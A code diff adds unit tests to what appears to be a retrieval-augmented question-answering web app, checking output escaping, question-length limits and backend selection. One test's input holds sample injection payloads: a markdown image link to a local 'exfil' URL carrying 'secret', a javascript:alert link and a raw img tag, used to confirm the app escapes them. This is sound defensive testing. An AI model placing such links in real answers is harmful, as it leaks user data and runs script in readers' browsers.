@@ -72,3 +72,26 @@ def test_passages_the_answer_did_not_use_are_headed_so(app_module):
     shown = app_module.sources_html("Capital of Peru?", HITS, (), "unused")
     assert "<h2>Closest passages (not used)</h2>" in shown and "Sources" not in shown
     assert app_module.sources_html("Q?", HITS, (), "found").startswith('<div class="sources found"><h2>Passages found')
+
+
+def test_an_answer_never_becomes_a_markdown_image_link_or_html(app_module):
+    answer = "See ![chart](http://127.0.0.1:9/exfil?q=secret) and [click](javascript:alert(1)) <img src=x> [1]"
+    view = AnswerView("", answer, HITS, {}, "", False, True)
+    markdown = app_module.answer_markdown(view)
+    assert "![" not in markdown and "](" not in markdown.replace("\\](", ""), markdown
+    assert "<img" not in markdown
+    so_far = app_module.answer_markdown(AnswerView("", answer[:30], HITS, {}, "", False, False))
+    assert markdown.startswith(so_far), "escaping must keep a growing answer growing by appends"
+
+
+def test_a_huge_question_is_cut_before_the_page_echoes_it(app_module):
+    assert len(app_module.shown_question("why " * 2_500_000)) <= app_module.SETTINGS.max_question_chars
+    assert app_module.shown_question({"not": "text"}) == ""
+
+
+def test_backends_that_cost_minutes_of_cpu_stay_out_of_the_app_unless_named(monkeypatch):
+    from rag.config import Settings
+
+    assert "smollm" not in Settings().app_backends and "transformers" not in Settings().app_backends
+    monkeypatch.setenv("RAG_APP_BACKENDS", "extractive, smollm")
+    assert Settings.from_env().app_backends == ("extractive", "smollm")
